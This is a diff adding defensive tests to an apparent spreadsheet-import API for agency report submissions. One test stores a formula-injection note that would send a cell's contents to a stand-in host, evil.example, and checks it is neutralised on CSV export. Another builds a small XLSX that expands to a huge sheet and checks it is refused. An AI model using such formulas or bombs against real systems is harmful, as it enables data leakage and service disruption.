@@ -110,3 +110,35 @@ test('the XLSX template opens in exceljs and lists the form', async () => {
   assert.equal(ws.getCell('A5').value, 'labour.employment_agency.jobseekers');
   assert.equal(ws.getCell('D5').value, 118398, 'prefilled with what the form holds');
 });
+
+test('the CSV template defuses a note a spreadsheet would run as a formula, and reads it back as written', async () => {
+  const note = '=HYPERLINK("http://evil.example/?"&B1,"source")';
+  const saved = await reporter.put('/api/submissions/form', { agencyId: sea, period: '2025', values: [{ indicatorId: 'prevention.care_leavers.vocational', value: 6, note }] });
+  assert.equal(saved.status, 200, JSON.stringify(saved.body));
+  const template = await reporter.get(`/api/submissions/template?agencyId=${sea}&period=2025&format=csv&lang=en`);
+  const line = String(template.body).split(/\r\n/)[2] ?? '';
+  assert.ok(line.endsWith(`,"'=HYPERLINK(""http://evil.example/?""&B1,""source"")",`), line);
+  const back = await reporter.post('/api/submissions/import', { agencyId: sea, period: '2025', format: 'csv', contentBase64: Buffer.from(String(template.body)).toString('base64') });
+  assert.equal(back.status, 200, JSON.stringify(back.body));
+  const form = (await reporter.get(`/api/submissions/form?agencyId=${sea}&period=2025`)).body.submission;
+  assert.equal(form.values.find((v: { indicatorId: string }) => v.indicatorId === 'prevention.care_leavers.vocational').note, note, 'the mark is not stored');
+});
+
+test('a workbook that unpacks to more than the limit is refused before it is read (a small upload, a huge sheet)', async () => {
+  const wb = new ExcelJS.Workbook();
+  const ws = wb.addWorksheet('submission');
+  ws.addRow(['azad-submission', 'state_employment_agency', '2026']);
+  ws.addRow(['indicator', 'label', 'unit', 'value', 'qualifier', 'status', 'note']);
+  ws.addRow(['prevention.care_leavers.vocational', '', '', 6, null, null, 'a'.repeat(9 * 1024 * 1024)]);
+  const bomb = Buffer.from(await wb.xlsx.writeBuffer());
+  assert.ok(bomb.length < 100_000, `${bomb.length} bytes on the wire`);
+  const res = await reporter.post('/api/submissions/import', { agencyId: sea, period: '2026', format: 'xlsx', contentBase64: bomb.toString('base64') });
+  assert.equal(res.status, 413, JSON.stringify(res.body).slice(0, 300));
+  assert.equal(res.body.error.fields[0].path, 'file');
+
+  // Within the limit, a note is held to the form's 500 characters, as typed on the form.
+  const csv = ['azad-submission,state_employment_agency,2026', 'indicator,label,unit,value,qualifier,status,note', `prevention.care_leavers.vocational,,people,6,,,${'a'.repeat(501)}`, 'prevention.care_leavers.self_employment,,people,2,,,a\u0000b'].join('\n');
+  const long = await reporter.post('/api/submissions/import', { agencyId: sea, period: '2026', format: 'csv', contentBase64: Buffer.from(csv).toString('base64') });
+  assert.equal(long.status, 400, JSON.stringify(long.body).slice(0, 300));
+  assert.deepEqual(long.body.error.fields.map((f: { path: string }) => f.path), ['row 3, cell G3', 'row 4, cell G4']);
+});
